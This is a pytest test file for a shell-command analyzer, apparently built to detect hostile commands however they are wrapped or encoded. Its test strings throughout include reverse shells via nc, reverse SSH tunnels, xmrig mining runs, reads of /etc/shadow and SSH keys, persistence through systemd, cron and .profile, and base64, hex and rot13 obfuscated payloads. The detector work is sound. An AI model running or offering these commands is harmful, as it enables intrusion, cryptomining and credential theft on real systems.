    assert [c.line for c in reader.read("parallel 'cp {} /backup/{}' ::: x")][1:] == ["cp x /backup/x"]


def test_cluster_schedulers_run_the_command_or_script_they_are_given():
    """srun and salloc run their command on the cluster's nodes, past options with values; sbatch a
    script, or the command line of --wrap."""
    assert names("srun -p gpu --gres gpu:4 -N 2 python3 train.py") == ["srun", "python3"]
    assert names("salloc -N1 --time=10 bash") == ["salloc", "bash"]
    assert [c.line for c in reader.read("sbatch -J x --wrap './xmrig -o p:3333'")][1:] == ["./xmrig -o p:3333"]
    assert names("sbatch --gres=gpu:1 job.sh") == ["sbatch", "job.sh"]


def test_a_batch_scripts_directives_are_read_as_options_before_its_name():
    """#SBATCH, #PBS and #BSUB lines up to the script's first command, from the script the run wrote
    or the job's input; the options of the command line stay after them."""
    session = Session()
    session.remember("/w/job.sh", "#!/bin/bash\n# train\n\n#SBATCH -J t --gres=gpu:2 # two\n#SBATCH -p 'a b'\n"
                                  "python t.py\n#SBATCH --gpus=8\n")
    session.chdir("/w")
    assert reader.read("sbatch -t 5 job.sh", session)[0].line == "sbatch -J t --gres=gpu:2 -p a b -t 5 job.sh"
    assert reader.read("qsub <<E\n#PBS -l select=1:ngpus=4\n./x\nE")[0].args == ["-l", "select=1:ngpus=4"]
    session.remember("/w/j.lsf", '#BSUB -gpu "num=2"\n./t\n')
    assert reader.read("bsub < j.lsf", session)[0].args == ["-gpu", "num=2"]
    assert reader.read("sbatch job.sh")[0].line == "sbatch job.sh"  # a script not written by the run: nothing known
    # lines end at a newline only; a word beginning with # begins a comment, not a # inside a word
    session.remember("/w/k.sh", "#!/bin/bash\n# a\x0cb\n#SBATCH --comment=run#2 --gres=gpu:8 #x -G 1\n./t\n")
    assert reader.read("sbatch k.sh", session)[0].args == ["--comment=run#2", "--gres=gpu:8", "k.sh"]
    # the command line as typed says what runs: a directive's value is never taken for the script
    session.remember("/w/m.sh", "#SBATCH --no-such-option 10G\n./xmrig -o p:3333\n")
    assert names("sbatch m.sh", session) == ["sbatch", "m.sh", "xmrig"]
    assert names("qsub -N x -l walltime=1:00 run.sh") == ["qsub", "run.sh"]
    assert names("bsub -n 4 -R 'span[hosts=1]' ./train --epochs 3") == ["bsub", "train"]


def test_cpulimit_runs_the_command_it_throttles():
    assert names("cpulimit -l 40 -- ./xmrig -o p:3333") == ["cpulimit", "xmrig"]
    assert names("cpulimit --limit=50 python3 train.py") == ["cpulimit", "python3"]
    assert names("cpulimit -p 1234 -l 25") == ["cpulimit"]
    assert names("cpulimit -P /usr/bin/x -l 50 ./w") == ["cpulimit", "w"]


def test_a_wrappers_clustered_options_take_their_value_from_the_next_word():
    assert [c.line for c in reader.read("sudo -Eu root id")] == ["sudo -Eu root id", "id"]
    assert names("echo a b | xargs -0I {} echo {}")[-1] == "echo"
    assert [c.line for c in reader.read("printf 'a\\0b\\0' | xargs -0n1 echo")][-2:] == ["echo a", "echo b"]


@pytest.mark.parametrize("code, argv", [
    ("import os; os.execvp('ssh', ['ssh', '-fNR', '1:l:22', 'h'])", ["ssh", "-fNR", "1:l:22", "h"]),
    ("import os; os.execv('/usr/bin/ssh', ['kworker', '-R', '1:l:22', 'h'])", ["/usr/bin/ssh", "-R", "1:l:22", "h"]),
    ("import os; os.execl('/usr/bin/nc', 'nc', '-e', '/bin/sh', 'h', '4')", ["/usr/bin/nc", "-e", "/bin/sh", "h", "4"]),
    ("import os; os.spawnlp(os.P_NOWAIT, 'xmrig', 'xmrig', '-o', 'p:3333')", ["xmrig", "-o", "p:3333"]),
    ("from os import posix_spawnp; posix_spawnp('ssh', ['ssh', '-R', '1:l:22', 'h'], {})", ["ssh", "-R", "1:l:22", "h"]),
])
def test_python_exec_and_spawn_run_their_program_with_its_argument_list(code, argv):
    cmds = reader.read_code("python", code)
    assert [cmds[-1].path, *cmds[-1].args] == argv


@pytest.mark.parametrize("lang, code", [
    ("perl", 'exec "ssh", "-fNR", "1:l:22", "a\\@h"'),
    ("ruby", 'system("ssh", "-fNR", "1:l:22", "a@h")'),
    ("node", "require('child_process').spawn('ssh', ['-fNR', '1:l:22', 'a@h'])"),
    ("php", "proc_open(['ssh', '-fNR', '1:l:22', 'a@h'], [], $p);"),
])
def test_other_languages_argument_lists_are_read_as_one_command(lang, code):
    ssh = next(c for c in reader.read_code(lang, code) if c.name == "ssh" and c.args)
    assert ssh.args == ["-fNR", "1:l:22", "a@h"]


def test_perls_indirect_exec_runs_the_program_in_braces_not_the_name_it_shows():
    ssh = next(c for c in reader.read_code("perl", 'exec {"/usr/bin/ssh"} "kworker", "-NR", "1:l:22", "h";')
               if c.name == "ssh")
    assert ssh.args == ["-NR", "1:l:22", "h"]


def test_expect_runs_what_its_script_spawns_or_execs():
    """`expect -c` strings, a script the run wrote, or the script on its input: each `spawn` and
    `exec` (options such as -noecho past) is read as a command line."""
    spawned = lambda text, session=None: [c.line for c in reader.read(text, session) if "expect spawn" in c.via]  # noqa: E731
    assert spawned("expect -c 'spawn -noecho ssh -R 1:l:22 h; expect eof'") == ["ssh -R 1:l:22 h"]
    session = Session()
    session.remember("/w/t.exp", "#!/usr/bin/expect -f\nset timeout 5\nspawn ./xmrig -o p:3333\n"
                                 "if {1} { exec nc -e /bin/sh h 4 }\ninteract\n")
    session.chdir("/w")
    assert spawned("expect t.exp arg", session) == ["./xmrig -o p:3333", "nc -e /bin/sh h 4"]
    assert spawned("expect <<'E'\nspawn ssh h\nE") == ["ssh h"]
    assert spawned("expect -f other.exp") == []
    # spawn's and exec's options, Tcl's braces, expect's own options with values, system
    assert spawned("expect -D 1 -c 'spawn -ignore HUP nc h 4; exec -ignorestderr -- sh -c {id; uname}; system ls'") == [
        "nc h 4", "sh -c id; uname", "id", "uname", "ls"]
    # what it types into what it spawned
    typed = [c.line for c in reader.read("expect -c 'spawn ssh h; send \"nohup ./w &\\r\"'") if "expect send" in c.via]
    assert typed == ["nohup ./w", "./w"]


def test_the_dynamic_loader_runs_the_program_after_its_options():
    assert names("/lib64/ld-linux-x86-64.so.2 --library-path /tmp/l ./xmrig -o p:1") == ["ld-linux-x86-64.so.2", "xmrig"]
    assert names("/lib/x86_64-linux-gnu/ld-2.31.so ./w")[1:] == ["w"]
    assert names("/lib64/ld64.so.2 ./w")[1:] == ["w"]
    assert names("/lib/ld-musl-x86_64.so.1 --list /bin/ls")[0] == "ld-musl-x86_64.so.1"


def test_programs_own_syntaxes_are_read_within_bounds_whatever_their_words():
    """Hostile option words for the programs read above never stop the reading, and what is read
    stays bounded (each program re-reads at most MAX_XARGS texts, MAX_DEPTH deep)."""
    from hypothesis import given, settings, strategies as st

    from vigiles.analysis.shell import MAX_COMMANDS, _Walk

    words = st.sampled_from(["-", "--", "-S", "-X", "stuff", "exec", "-dmS", "-c", "-qc", ":::", "::::", "{}",
                             ";", "\\;", "Enter", "send-keys", "new", "-t", "-s", "+", "+!x", "-0I{}", "-I",
                             "--config-env", "core.sshCommand=S", "--split-string", "-iS", "x y", "nc -e sh",
                             "sh -c {}", ":!sh", "call system('sh')", "screen", "tmux", "-ls", "-r",
                             "spawn nc -e sh h 4", "#SBATCH --gres=gpu:1", "--wrap", "-gpu", "-l", "--library-path"])
    programs = st.sampled_from(["screen", "tmux", "parallel", "vim", "env", "script", "su", "flock", "xargs",
                                "git", "sudo", "runuser", "expect", "sbatch", "qsub", "bsub", "cpulimit",
                                "ld-linux-x86-64.so.2"])

    @settings(max_examples=400, deadline=None)
    @given(programs, st.lists(words, max_size=12), st.one_of(st.none(), st.text(max_size=40)))
    def check(program, args, stdin):
        walk = _Walk(reader._parser, Session())
        walk.command(program, args, (), {}, 0, [], [], stdin=stdin)
        assert 1 <= len(walk.out) <= MAX_COMMANDS
    check()
    deep = "screen -X stuff '" + "screen -X stuff '\\''" * 50 + "nc -e sh h 4" + "'"
    assert reader.read(deep)  # nested re-reading stops at MAX_DEPTH, nothing raised


@pytest.mark.parametrize("text", [
    "awk '{print $0}' /tmp/d.txt | sh",               # a filter reading the file as its input
    "tail -1 /tmp/d.txt | bash",
    "grep -v '^#' /tmp/d.txt | sh",
    "cut -d' ' -f1- /tmp/d.txt | sh",
    "xargs -a /tmp/d.txt -I{} sh -c '{}'",            # xargs's items from a file
    "parallel :::: /tmp/d.txt",                       # parallel's arguments from a file
    'sh -c "$(cat /tmp/d.txt)"',                      # a shell given the whole word of cat's output
    'eval "$(cat /tmp/d.txt)"',
])
def test_a_file_the_session_wrote_is_read_where_a_filter_or_runner_takes_it(text):
    session = Session()
    session.remember("/tmp/d.txt", "# setup\nnc -e /bin/sh 203.0.113.7 4444\n")
    nc = find(text, "nc", session)
    assert nc.args[-2:] == ["203.0.113.7", "4444"]


def test_cat_in_a_substitution_stays_as_written_for_rules_that_see_output_being_sent():
    session = Session()
    session.remember("/tmp/d.txt", "secret\n")
    curl = find('curl -d "$(cat /tmp/d.txt)" https://example.com', "curl", session)
    assert curl.args[1] == "$(cat /tmp/d.txt)"
    assert names("head -1 /tmp/none.txt | sh", session) == ["head", "sh"]  # a file nobody wrote
    assert names("uniq /tmp/d.txt /tmp/out.txt", session) == ["uniq"]


@pytest.mark.parametrize("text, line", [
    ("npx localtunnel --port 8080", "localtunnel --port 8080"),
    ("npx -y localtunnel@2.0.2 --port 8080", "localtunnel --port 8080"),   # the version is not the name
    ("pnpm dlx ngrok http 80", "ngrok http 80"),
    ("yarn dlx cloudflared tunnel", "cloudflared tunnel"),
    ("npm exec -- ngrok http 80", "ngrok http 80"),
    ("bunx @ngrok/ngrok http 80", "@ngrok/ngrok http 80"),                # a scoped package runs by its name
    ("npx -p cloudflared cloudflared tunnel", "cloudflared tunnel"),      # -p names the package, then the command
    ("uvx --from sshuttle sshuttle -r u@h 0/0", "sshuttle -r u@h 0/0"),
    ("pipx run sshuttle -r u@h 0/0", "sshuttle -r u@h 0/0"),
    ("uv tool run ngrok http 80", "ngrok http 80"),
    ("npx -c 'ssh -R 1:l:22 h'", "ssh -R 1:l:22 h"),                      # -c: a command line
])
def test_package_runners_run_the_package_they_name(text, line):
    assert [c.line for c in reader.read(text)][1:] == [line]


@pytest.mark.parametrize("text", ["npm install", "npm exec", "npx", "uv tool install ruff", "pnpm add x"])
def test_package_managers_install_nothing_they_run(text):
    assert len(reader.read(text)) == 1


@pytest.mark.parametrize("text, line", [
    ("docker run --rm -it -v /:/host alpine sh -c 'nc -e /bin/sh h 4'", "sh -c nc -e /bin/sh h 4"),
    ("docker -H tcp://10.0.0.2:2375 run -d --name x --restart=always ubuntu ssh -R 1:l:22 h", "ssh -R 1:l:22 h"),
    ("podman run --entrypoint /bin/sh alpine -c id", "/bin/sh -c id"),
    ("docker run --entrypoint=xmrig miner -o p:3333", "xmrig -o p:3333"),
    ("docker container run alpine echo hi", "echo hi"),
    ("kubectl run copy --image=alpine -- sh -c 'wget http://h/a'", "sh -c wget http://h/a"),
])
def test_a_container_run_runs_its_command(text, line):
    assert line in [c.line for c in reader.read(text)[1:] if not any(v.startswith("image ") for v in c.via)]


@pytest.mark.parametrize("text, own", [
    ("docker run hello-world", "hello-world"),
    ("docker run -d metal3d/xmrig -o pool.example:4444", "xmrig -o pool.example:4444"),
    ("kubectl run web --image=nginx", None), ("npm run build", None), ("docker ps", None),
])
def test_a_container_run_with_no_command_of_its_own_runs_its_image(text, own):
    """What runs is the image's own program, read under the image's name (only for docker-like runs)."""
    cmds = reader.read(text)
    assert [c.line for c in cmds[1:]] == ([own] if own else [])


def _encodings():
    import base64
    import bz2
    import gzip
    import lzma
    import zlib
    cmd = b"ssh -R 1:l:22 h"
    b64 = lambda data: base64.b64encode(data).decode()  # noqa: E731
    return [
        f"echo {base64.b32encode(cmd).decode()} | base32 -d | sh",
        f"echo {base64.b32encode(cmd).decode()} | basenc --base32 -d | sh",
        f"echo {b64(cmd)} | basenc --base64 --decode | sh",
        f"echo {b64(gzip.compress(cmd))} | base64 -d | gunzip | sh",
        f"echo {b64(gzip.compress(cmd))} | base64 -d | gzip -dc | bash",
        f"echo {b64(bz2.compress(cmd))} | base64 -d | bunzip2 | sh",
        f"echo {b64(lzma.compress(cmd))} | base64 -d | xz -d | sh",
        f"python3 -c \"import base64,os; os.system(base64.b32decode('{base64.b32encode(cmd).decode()}'))\"",
        f"python3 -c \"import zlib,base64,os; os.system(zlib.decompress(base64.b64decode('{b64(zlib.compress(cmd))}')))\"",
        f"perl -e 'system(pack(\"H*\",\"{cmd.hex()}\"))'",
        f"python3 -c \"import os; os.system(bytes.fromhex('{cmd.hex()}').decode())\"",
        f"python3 -c \"import subprocess as s; s.Popen(bytes.fromhex('{cmd.hex()}').decode().split())\"",
        f"python3 -c \"import os; os.system(''.join(map(chr, {list(cmd)})))\"",
    ]


@pytest.mark.parametrize("text", _encodings())
def test_more_encodings_are_decoded(text):
    ssh = find(text, "ssh")
    assert ssh.args == ["-R", "1:l:22", "h"]


def test_decompression_is_bounded_and_gives_up_on_text():
    import base64
    import gzip

    from vigiles.analysis.decode import MAX_DECODED, b64decode, decompress
    bomb = b64decode(base64.b64encode(gzip.compress(b"a" * (8 * MAX_DECODED))).decode())
    assert len(decompress("gzip", bomb)) == MAX_DECODED  # cut, never expanded whole
    assert decompress("gzip", "ssh \u2603") is None      # text beyond one byte a character: no bytes
    assert decompress("xz", "not xz") is None


TUNNEL_WORDS = ["ssh", "-fNR", "4444:localhost:22", "a@203.0.113.7"]


@pytest.mark.parametrize("code", [
    f"import os; cmd = '{TUNNEL}'; os.system(cmd)",                                 # a variable
    f"import os\nparts = {TUNNEL_WORDS!r}\nos.system(' '.join(parts))",              # words joined
    "import os; os.system(''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in TUNNEL) + "]))",
    f"import os; getattr(os, 'sys' + 'tem')('{TUNNEL}')",                           # the call's name built
    f"import codecs, os; os.system(codecs.decode('{TUNNEL.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM'))}', 'rot13'))",
    f"import os; os.system('{TUNNEL[::-1]}'[::-1])",
    f"import subprocess; subprocess.run(['s' + 'sh'] + {TUNNEL_WORDS[1:]!r})",
    "import os; h = '203.0.113.7'; os.system(f'ssh -fNR 4444:localhost:22 a@{h}')",
    f"import os; c = bytes({list(TUNNEL.encode())!r}).decode(); os.system(c)",
])
def test_python_that_builds_its_command_is_read_with_what_it_built(code):
    ssh = next(c for c in reader.read_code("python", code) if c.name == "ssh")
    assert ssh.args[:2] == ["-fNR", "4444:localhost:22"]
    assert [e.host for e in ssh.endpoints] == ["203.0.113.7"]


def test_python_values_are_bounded():
    from vigiles.analysis.code import MAX_JOINED, _assigned
    import ast
    doubled = "import os\nb = 'ssh '\n" + "b = b + b\n" * 40 + "os.system(b)"
    names = _assigned(list(ast.walk(ast.parse(doubled))))
    assert len(names["b"]) <= MAX_JOINED  # doubling 40 times stops at MAX_JOINED, the last kept value
    assert reader.read_code("python", doubled)


@pytest.mark.parametrize("text", [
    "cat <<'E' | sh\nssh -R 1:l:22 h\nE",
    "cat <<E | grep -v '^#' | bash\n# setup\nssh -R 1:l:22 h\nE",
    "cat <<'E' > notes.txt && ssh -R 1:l:22 h\nhello\nE",
    "cat <<'E' > notes.txt; ssh -R 1:l:22 h\nhello\nE",
])
def test_what_follows_a_heredoc_on_its_line_is_read(text):
    """The tree puts `| sh` or `&& CMD` after `<<E` inside the redirection: still commands."""
    cmd = find(text, "ssh")
    assert cmd.args == ["-R", "1:l:22", "h"]


@pytest.mark.parametrize("text, name, args", [
    ("kubectl apply -f - <<E\nkind: Pod\nE\n", "kubectl", ["apply", "-f", "-"]),
    ("cat - <<E\nx\nE", "cat", ["-"]),
    ("cat -- - <<E | sh\nid\nE", "cat", ["--", "-"]),
    ("cat <<E\nx\nE", "cat", []),
])
def test_a_dash_before_a_heredoc_stays_an_argument(text, name, args):
    # tree-sitter-bash leaves the `-` out of the command and of the redirect
    assert find(text, name).args == args


def test_heredoc_pipeline_gets_pipe_features():
    cmds = reader.read("cat <<'E' | base64 -d | sh\nc3NoIC1SIDE6bDoyMiBo\nE")
    base64 = next(c for c in cmds if c.name == "base64")
    assert base64.pipe_from == ["cat"] and base64.pipe_to == ["sh"]
    assert next(c for c in cmds if c.name == "ssh").args[0] == "-R"


@pytest.mark.parametrize("text", [
    "while read c; do eval \"$c\"; done <<< 'ssh -R 1:l:22 h'",
    "printf 'ssh -R 1:l:22 h\\n' | while read -r c; do $c; done",
    "echo 'ssh -R 1:l:22 h' | while IFS= read -r line; do bash -c \"$line\"; done",
    "while read -r prog args; do $prog $args; done <<EOF\nssh -R 1:l:22 h\nEOF",
    "cat <<'E' | while read c; do $c; done\nssh -R 1:l:22 h\nE",
])
def test_while_read_runs_its_lines(text):
    cmd = find(text, "ssh")
    assert cmd.args == ["-R", "1:l:22", "h"]
    assert "while read" in cmd.via


def test_while_read_over_a_file_the_session_wrote():
    session = Session()
    reader.read("mkdir -p /tmp/w; echo 'ssh -R 1:l:22 h' > /tmp/w/cmds.txt", session)
    cmd = find("cd /tmp/w && while read c; do $c; done < cmds.txt", "ssh", session)
    assert cmd.args == ["-R", "1:l:22", "h"]


def test_while_read_binds_words_as_read_does():
    cmds = reader.read("echo 'a b c' | while read x y; do echo \"[$x]\" \"[$y]\"; done")
    inner = next(c for c in cmds if c.name == "echo" and c.via)
    assert inner.args == ["[a]", "[b c]"]
    cmds = reader.read("echo '  a b  ' | while IFS= read -r x; do echo \"[$x]\"; done")
    assert next(c for c in cmds if c.name == "echo" and c.via).args == ["[  a b  ]"]


def test_while_read_with_unknown_input_is_read_once_as_written():
    cmds = reader.read("find . -name '*.py' | while read f; do wc -l \"$f\"; done")
    assert [c.name for c in cmds] == ["find", "read", "wc"]
    lines = "\n".join(f"echo line{i}" for i in range(100))
    many = reader.read(f"printf '{lines}' | while read c; do $c; done")
    assert sum(c.name == "echo" and "while read" in c.via for c in many) == 99  # (the last line has no newline)


@pytest.mark.parametrize("text", [
    "cat <<'E' > notes.txt; ssh -R 1:l:22 h\nhello\nE",
    "cat <<E; ssh -R 1:l:22 h\nhello\nE\necho done",
    "cat <<-\"E\" >/dev/null & ssh -R 1:l:22 h\n\thello\n\tE",
    "cat > a.txt <<E 2>&1; ssh -R 1:l:22 h\nx;y\nE",
])
def test_a_list_after_a_heredoc_the_grammar_rejects_is_read(text):
    """tree-sitter-bash fails on `;` or `&` after `<<E`; the command there must not vanish."""
    cmds = reader.read(text)
    assert next(c for c in cmds if c.name == "ssh").args == ["-R", "1:l:22", "h"]
    assert [c.name for c in cmds][0] == "cat"


def test_commands_around_what_the_grammar_cannot_parse_are_read():
    """bash runs `for i in 1 2; { ...; }` (a brace body); tree-sitter-bash errs there and, with it,
    loses the next line: each list member around the error is read by itself as well."""
    cmds = reader.read("for i in 1 2; { echo $i; }\nssh -R 1:l:22 h")
    assert ["-R", "1:l:22", "h"] in [c.args for c in cmds if c.name == "ssh"]


def test_list_pieces_split_where_the_shell_splits_a_list():
    from vigiles.analysis.shell import _list_pieces
    text = b"a; b && c || d & e\nf | g >&2; x=$(h; i) 'j;k' \"l;m\"; n &> o"
    assert [text[s:e].strip() for s, e in _list_pieces(text)] == [
        b"a", b"b", b"c", b"d", b"e", b"f | g >&2", b"x=$(h; i) 'j;k' \"l;m\"", b"n &> o"]


@pytest.mark.parametrize("path, content", [
    ("/etc/systemd/system/upd.service",
     "[Unit]\nDescription=x\n[Service]\nExecStartPre=-/bin/true\nExecStart=/tmp/.x/svc -o pool.example:3333\nRestart=always\n"),
    ("/home/u/.config/autostart/u.desktop", "[Desktop Entry]\nType=Application\nExec=/tmp/.x/svc -o pool.example:3333\n"),
    ("/etc/supervisor/conf.d/w.conf", "[program:w]\ncommand=/tmp/.x/svc -o pool.example:3333\nautorestart=true\n"),
])
def test_a_unit_written_is_read_as_the_commands_it_starts(path, content):
    """A service manager runs Exec*= / command= lines, not the file as shell (ExecStart=x would be
    an assignment there and hide x)."""
    cmds = reader.read(f"cat > {path} <<'E'\n{content}E")
    started = next(c for c in cmds if c.name == "svc")
    assert started.args == ["-o", "pool.example:3333"] and started.via == (f"writes {path}",)
    assert reader.read_unit(content)[-1].path == "/tmp/.x/svc"


def test_a_heredoc_ends_only_at_a_line_equal_to_its_delimiter():
    """tree-sitter-bash ends it at a line that starts with the delimiter; bash does not."""
    cmds = reader.read("cat > run.sh <<E\nEcho=1\nssh -R 1:l:22 h\nE\nbash run.sh")
    assert [c.via for c in cmds if c.name == "ssh"] == [("writes run.sh",), ("bash", "script run.sh")]
    assert find("cat <<EOF\nEOF \nssh -R 1:l:22 h\nEOF", "cat").stdout == "EOF \nssh -R 1:l:22 h\n"
    assert "ssh" not in names("cat <<EOF\nEOF \nssh -R 1:l:22 h\nEOF")


def test_nested_while_read_loops_stay_within_the_command_budget():
    """Each loop reads its body once per line: nested, they would multiply without a bound."""
    from vigiles.analysis.shell import MAX_COMMANDS
    lines = "\\n".join(f"l{i}" for i in range(16))
    loop = "echo x"
    for depth in range(6):
        loop = f"printf '{lines}' | while read v{depth}; do {loop}; done"
    cmds = reader.read(loop)
    assert MAX_COMMANDS // 2 - 16 <= len(cmds) <= MAX_COMMANDS // 2 + 16  # (MAX_LOOP_COMMANDS)


def test_a_value_read_as_a_command_line_cannot_grow_the_reading_without_bound():
    """`$P` whose value names $P (an unbalanced quote keeps the `$(` open) is read as a command line,
    and its own $P again at each level: a 32-byte text made 1,400 commands. The lines a walk reads
    from variables are bounded by the text's length; past that, an unreadable command says so."""
    from vigiles.analysis.shell import UNREADABLE
    cmds = reader.read('P=$(x")/"$P""$P" """)\nM=("')
    assert len(cmds) < 100
    assert [c.args for c in cmds if c.name == UNREADABLE] == [["more command lines held in variables than are read"]]
    held = reader.read('c="nc -e /bin/sh 203.0.113.9 4444"; $c')  # an ordinary one is still read
    assert [c.args for c in held if c.name == "nc"] == [["-e", "/bin/sh", "203.0.113.9", "4444"]]


def test_a_script_that_runs_itself_is_read_once_on_each_path():
    """It doubled at each level of MAX_DEPTH before: 19 bytes made 1,040 commands."""
    cmds = reader.read('a>`echo "x|/">>/|/')
    assert len(cmds) < 20 and {c.name for c in cmds} >= {"x", "/"}
    again = reader.read("echo 'id; sh /tmp/a.sh' > /tmp/a.sh; sh /tmp/a.sh")
    assert [c.via for c in again if c.name == "id"][-1] == ("sh", "script /tmp/a.sh")


def test_braces_beside_variables_expand_after_them():
    """bash expands braces first, so `${f}{a,b}` is ${f}a ${f}b: one word per choice."""
    assert [c.args for c in reader.read("d=/etc; cat $d/{passwd,shadow}") if c.name == "cat"] == [["/etc/passwd", "/etc/shadow"]]
    loop = reader.read('k=~/.ssh/id_; for f in ${k}{rsa,ecdsa}; do cat "$f"; done')
    assert [c.args for c in loop if c.name == "cat"][1:] == [["~/.ssh/id_rsa"], ["~/.ssh/id_ecdsa"]]
    assert [c.args for c in reader.read("a=n; b=s; echo {$a,$b}c") if c.name == "echo"] == [["nc", "sc"]]
    assert [c.args for c in reader.read('echo "${x:-a,b}" ${y:-c,d}')] == [["a,b", "c,d"]]


def test_find_exec_gives_each_found_file_a_path_under_its_starting_points():
    """`{}` is each file find finds: `/var/log/{}` says where, which `rm {}` did not, and a -name
    test what it is called."""
    assert [c.args for c in reader.read("find /tmp /var/log -type f -exec rm -f {} +") if c.name == "rm"] == [
        ["-f", "/tmp/{}"], ["-f", "/var/log/{}"]]
    assert [c.args for c in reader.read("find ~/.ssh -name '*.pub' -exec cat {} +") if c.name == "cat"] == [["~/.ssh/*.pub"]]
    assert [c.args for c in reader.read("find ~/.ssh ! -name '*.pub' -exec cat {} +") if c.name == "cat"] == [["~/.ssh/{}"]]
    assert [c.args for c in reader.read("find -L / -perm -4000 -exec ls -l {} \\;") if c.name == "ls"] == [["-l", "/{}"]]
    assert [c.args for c in reader.read("find -name x -exec cat {} \\;") if c.name == "cat"] == [["./x"]]
    inner = reader.read("find ~/logs -exec sh -c ': > \"$1\"' _ {} \\;")
    assert [c.writes for c in inner if c.name == ":"] == [["~/logs/{}"]]


def test_files_python_code_writes_are_the_interpreters_writes():
    """open(P, 'w'/'a') and Path(P).write_text: the file, what a literal writes there (read as what
    it would run, as a shell's writes are), and a script so written is read again when it is run."""
    cmd, *read = reader.read("python3 -c \"open('/root/.profile', 'a').write('curl x | sh')\"")
    assert cmd.writes == ["/root/.profile"] and cmd.written == "curl x | sh"
    assert [(c.name, c.via) for c in read] == [(n, ("python code", "writes /root/.profile")) for n in ("curl", "sh")]
    cmd, *read = reader.read("python3 -c \"import pathlib; pathlib.Path('/etc/cron.d/j').write_text('* * * * * root id')\"")
    assert cmd.writes == ["/etc/cron.d/j"] and cmd.written == "* * * * * root id" and [c.name for c in read] == ["id"]
    assert reader.read("python3 -c \"print(open('/etc/hosts').read())\"")[0].writes == []
    assert reader.read("python -c \"import json; json.dump({}, open(name, 'w'))\"")[0].writes == []  # (a name not known)
    run = reader.read("python3 -c \"open('/tmp/r.sh', 'w').write('ssh -fNR 9:l:22 u@198.51.100.3')\"; sh /tmp/r.sh")
    assert [c.via for c in run if c.name == "ssh"] == [("python code", "writes /tmp/r.sh"), ("sh", "script /tmp/r.sh")]


def test_ssh_input_is_the_script_of_a_remote_shell_reading_it():
    """`ssh h 'bash -s' <<E` and `... | ssh h sh` run ssh's input there; `ssh h uptime` does not."""
    via = ("ssh", "bash -s")
    assert [(c.name, c.via) for c in reader.read("ssh h 'bash -s' <<'E'\nnohup ./agent &\nE")][-2:] == [
        ("nohup", via), ("agent", (*via, "nohup"))]
    assert [c.args for c in reader.read('ssh h sudo sh <<< "nc -e /bin/sh 198.51.100.1 9"') if c.name == "nc"] == [
        ["-e", "/bin/sh", "198.51.100.1", "9"]]
    assert "nc" not in names('ssh h uptime <<< "nc -e /bin/sh 198.51.100.1 9"')
    assert "nc" not in names('ssh h bash -c id <<< "nc -e /bin/sh 198.51.100.1 9"')


def test_an_unterminated_heredoc_holds_the_rest_of_the_text():
    """bash reads to the end of input as its body; nothing after it starts another heredoc."""
    from vigiles.analysis.shell import _heredoc_lists, _heredocs_renamed
    text = "cat <<A\n" + "cat <<B; x\nB2\nB\n" * 3
    assert _heredocs_renamed(text) is None and _heredoc_lists(text) is None
    many = "".join(f"cat <<E{i}\nE{i}x\n" for i in range(20000))  # each line read once, not once per heredoc
    assert _heredocs_renamed(many) is None


@pytest.mark.parametrize("text", [
    "while IFS=, read a b; do $b; done <<< 'x,ssh -R 1:l:22 h'",
    "while IFS=$'\\t' read -r a b; do $b; done <<< $'x\\tssh -R 1:l:22 h'",
    "while read -r l || [ -n \"$l\" ]; do eval \"$l\"; done <<< 'ssh -R 1:l:22 h'",
    "printf 'id\\0ssh -R 1:l:22 h\\0' | while IFS= read -r -d '' c; do $c; done",
    "printf '%s\\n' " + " ".join(f"'echo {i}'" for i in range(30)) + " 'ssh -R 1:l:22 h' | while read c; do $c; done",
    "printf '%s\\n' " + " ".join(f"'echo {i}'" for i in range(300)) + " 'ssh -R 1:l:22 h' | while read c; do eval \"$c\"; done",
])
def test_while_read_sets_what_read_sets(text):
    """IFS given, a list led by read, NUL-ended records, the 31st line, and lines past MAX_LOOP_LINES
    (read together: eval runs them line by line)."""
    cmd = find(text, "ssh")
    assert cmd.args == ["-R", "1:l:22", "h"] and "while read" in cmd.via


@pytest.mark.parametrize("text", [
    "for c in 'ssh -R 1:l:22 h'; do $c; done",
    "for c in id 'ssh -R 1:l:22 h'; do eval \"$c\"; done",
    "for p in ssh; do $p -R 1:l:22 h; done",
    "for c in 'ssh -R 1:l:22 h'\ndo\n  bash -c \"$c\"\ndone > /dev/null",
    "set -- 'ssh -R 1:l:22 h'; for c; do $c; done",
])
def test_for_runs_its_words(text):
    """The body is read once for each word (`for VAR;` takes the positional parameters)."""
    assert find(text, "ssh").args == ["-R", "1:l:22", "h"]


def test_for_reads_the_body_as_written_too():
    """What every pass does stays visible: `ping 10.0.0.$i` is a sweep whatever $i holds."""
    cmds = reader.read("i=9; for i in 1 2; do ping -c1 10.0.0.$i; done; echo $i")
    assert [c.args[-1] for c in cmds if c.name == "ping"] == ["10.0.0.$i", "10.0.0.1", "10.0.0.2"]
    assert find("i=9; for i in 1 2; do ping -c1 10.0.0.$i; done; echo $i", "echo").args == ["2"]


def test_for_keeps_what_its_body_assigns():
    """The loop runs in this shell: a word built over the passes is there after it."""
    assert find("y=n; for x in c; do y=$y$x; done; $y -e /bin/sh h 1", "nc").args[0] == "-e"


def test_for_over_many_words_stays_bounded():
    from vigiles.analysis.shell import MAX_FOR_WORDS
    words = " ".join(f"w{i}" for i in range(1000))
    cmds = reader.read(f"for x in {words}; do echo $x; done")
    assert len(cmds) == MAX_FOR_WORDS + 1  # as written, then one pass a word, the rest together
    assert " ".join(cmds[-1].args) == " ".join(f"w{i}" for i in range(MAX_FOR_WORDS - 1, 1000))  # ($x: split again)
    assert names("for i in {1..3}; do echo $i; done").count("echo") == 4


def test_a_for_word_past_the_bound_is_still_run():
    """Repeated words are read once, and the words past the bound a line each, as eval runs them."""
    padded = " ".join(["'true'"] * 40 + [f"'echo {i}'" for i in range(80)])
    for text in (f"for c in {padded} 'ssh -R 1:l:22 h'; do eval \"$c\"; done",
                 f"for c in {padded} 'ssh -R 1:l:22 h'; do bash -c \"$c\"; done"):
        assert find(text, "ssh").args == ["-R", "1:l:22", "h"]


_FOR3 = 'W="0 1 2 3 4 5 6 7 8 9 a b c d e f"; for a in $W; do for b in $W; do for c in $W; do {}; done; done; done'
_WHILE2 = 'printf "%s\\n" {1..64} | while read a; do printf "%s\\n" {1..64} | while read b; do :; done; done'
_NC = "nc -lvp 4444 -e /bin/sh"


